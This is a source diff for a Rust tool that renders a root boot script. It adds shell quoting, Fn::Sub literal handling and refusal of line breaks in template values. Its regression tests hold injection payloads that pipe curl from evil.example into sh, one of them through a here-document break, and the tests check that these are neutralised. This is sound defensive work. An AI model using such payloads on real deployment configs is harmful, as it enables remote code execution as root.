@@ -3,11 +3,17 @@
 //! knows at deploy time) and `Fn::Base64`.
 //!
 //! Owns the template context and the deploy-time variables. The script's
-//! text lives in the templates, embedded in the binary.
+//! text lives in the templates, embedded in the binary; every value it
+//! fills in goes through an escaping filter there (`shell_quote`, or
+//! `systemd_word` in unit files). Here each text value is also made a
+//! literal for `Fn::Sub` and checked to be one line, so that neither
+//! CloudFormation nor a here-document in the script reads it as anything
+//! but text.
 
 use hagen::blueprint::text::{TextTemplates, context};
 use hagen::constructs::load_balanced_asg::UserData;
 use hagen::error::SynthError;
+use hagen::template::fns::sub_literal;
 use hagen::template::fns::sub_with;
 use hagen::template::{Attr, Expr, Value};
 
@@ -79,21 +85,22 @@ impl BootScript<'_> {
     /// The script's text, with `${Name}` placeholders for `Fn::Sub`.
     pub fn render(&self) -> Result<String, SynthError> {
         let templates = TextTemplates::new(TEMPLATES)?;
+        let text = |name: &str, value: &str| text_value(name, value);
         templates.render(
             "templates/swiftcode/user-data.sh.j2",
             context! {
-                project => self.project,
-                environment => self.environment,
-                db_engine => self.db_engine,
+                project => text("project", self.project)?,
+                environment => text("environment", self.environment)?,
+                db_engine => text("db_engine", self.db_engine)?,
                 swiftcode_port => self.swiftcode_port,
                 leto_port => self.leto_port,
-                leto_path => self.leto_path,
-                health_check_path => self.health_check_path,
+                leto_path => text("leto_path", self.leto_path)?,
+                health_check_path => text("health_check_path", self.health_check_path)?,
                 cfn_signal => self.signal_resource.is_some(),
-                signal_resource => self.signal_resource.unwrap_or_default(),
-                swiftcode_home => SWIFTCODE_HOME,
-                leto_home => LETO_HOME,
-                leto_wsgi => LETO_WSGI,
+                signal_resource => text("signal_resource", self.signal_resource.unwrap_or_default())?,
+                swiftcode_home => text("swiftcode_home", SWIFTCODE_HOME)?,
+                leto_home => text("leto_home", LETO_HOME)?,
+                leto_wsgi => text("leto_wsgi", LETO_WSGI)?,
                 leto_workers => LETO_WORKERS,
             },
         )
@@ -114,6 +121,22 @@ impl BootScript<'_> {
             Ok(Value::from(sub_with(text.clone(), variables)))
         }))
     }
+}
+
+/// A text value for the script: one line (a line break could end one of
+/// the script's here-documents early, and whatever followed would run as
+/// root), made a literal for `Fn::Sub` (so that a `${` in it stays text).
+/// The templates quote it for the shell or refuse it in unit files.
+fn text_value(name: &str, value: &str) -> Result<String, SynthError> {
+    if let Some(c) = value.chars().find(|c| c.is_control()) {
+        return Err(SynthError::props(
+            "SwiftCode boot script",
+            format!(
+                "{name} {value:?} holds the control character {c:?}; boot script values are one line of text"
+            ),
+        ));
+    }
+    Ok(sub_literal(value))
 }
 
 /// The deploy-time variables of the script's `Fn::Sub` (parameters and
@@ -153,17 +176,35 @@ mod tests {
         }
     }
 
-    /// Every `${...}` placeholder in a text.
+    /// Every `${...}` placeholder in a text (`${!...}` is a literal).
     fn placeholders(text: &str) -> Vec<&str> {
         let mut out = Vec::new();
         let mut rest = text;
         while let Some(i) = rest.find("${") {
             let tail = &rest[i + 2..];
             let end = tail.find('}').expect("closed placeholder");
-            out.push(&tail[..end]);
+            if !tail.starts_with('!') {
+                out.push(&tail[..end]);
+            }
             rest = &tail[end..];
         }
         out
+    }
+
+    /// The value a shell assignment line of the script (`name=...`) gives
+    /// its variable, as `/bin/sh` computes it.
+    fn shell_value(text: &str, name: &str) -> String {
+        let line = text
+            .lines()
+            .find(|l| l.starts_with(&format!("{name}=")))
+            .unwrap_or_else(|| panic!("no assignment of {name}"));
+        let out = std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg(format!("{line}\nprintf '%s' \"${name}\""))
+            .output()
+            .expect("/bin/sh runs");
+        assert!(out.status.success(), "{out:?}");
+        String::from_utf8(out.stdout).expect("utf-8")
     }
 
     #[test]
@@ -177,8 +218,14 @@ mod tests {
         assert!(text.contains("Environment=SCRIPT_NAME=/leto"));
         assert!(text.contains("WantedBy=multi-user.target"));
         assert!(text.contains(
-            "systemctl enable --now swiftcode-allowed-hosts.service swiftcode.service leto.service"
+            "systemctl enable --now \"$project-allowed-hosts.service\" swiftcode.service leto.service"
         ));
+        assert!(text.contains("\nproject='swiftcode'\nenvironment='stage'\n"));
+        assert!(
+            text.contains("\nAPP_ENV='stage'\n"),
+            "systemd reads quoted values"
+        );
+        assert!(text.contains("Requires=swiftcode-allowed-hosts.service\n"));
         assert!(text.contains("grep -v -e '^@reboot.*swiftcode'"));
         assert!(!text.contains("cfn-signal"));
     }
@@ -222,7 +269,49 @@ mod tests {
     fn cfn_signal_reports_the_health_of_the_named_resource() {
         let text = script(Some("AppAsg")).render().expect("renders");
         assert!(text.contains("--resource 'AppAsg'"));
-        assert!(text.contains("http://127.0.0.1:9000/health"));
+        assert_eq!(
+            shell_value(&text, "health_url"),
+            "http://127.0.0.1:9000/health"
+        );
+    }
+
+    /// Regression: a `health_check_path` of `"; curl ... | sh;` was pasted
+    /// into the root boot script unquoted. The configuration refuses such a
+    /// path now (see `config.rs`); should one get here anyway, it reaches
+    /// the shell as one word, the URL curl is asked for, and nothing runs.
+    #[test]
+    fn health_check_path_shell_injection_stays_one_quoted_word() {
+        let hostile = "/\"; curl -fsS https://evil.example/x | sh; echo '$(id)`id`";
+        let mut boot = script(Some("AppAsg"));
+        boot.health_check_path = hostile;
+        let text = boot.render().expect("renders");
+        assert_eq!(
+            shell_value(&text, "health_url"),
+            format!("http://127.0.0.1:9000{hostile}")
+        );
+    }
+
+    #[test]
+    fn a_placeholder_in_a_value_stays_text_for_fn_sub() {
+        let mut boot = script(Some("AppAsg"));
+        boot.health_check_path = "/${AWS::AccountId}";
+        let text = boot.render().expect("renders");
+        assert!(
+            text.contains("'/${!AWS::AccountId}'"),
+            "Fn::Sub turns ${{! back into ${{ and substitutes nothing"
+        );
+        assert!(!placeholders(&text).contains(&"AWS::AccountId"));
+    }
+
+    #[test]
+    fn a_value_with_a_line_break_is_refused_before_it_can_end_a_here_document() {
+        let mut boot = script(None);
+        boot.environment = "stage\nENV\ncurl https://evil.example | sh";
+        let err = boot.render().expect_err("a line break");
+        assert!(
+            err.to_string().contains("environment") && err.to_string().contains("'\\n'"),
+            "{err}"
+        );
     }
 
     #[test]
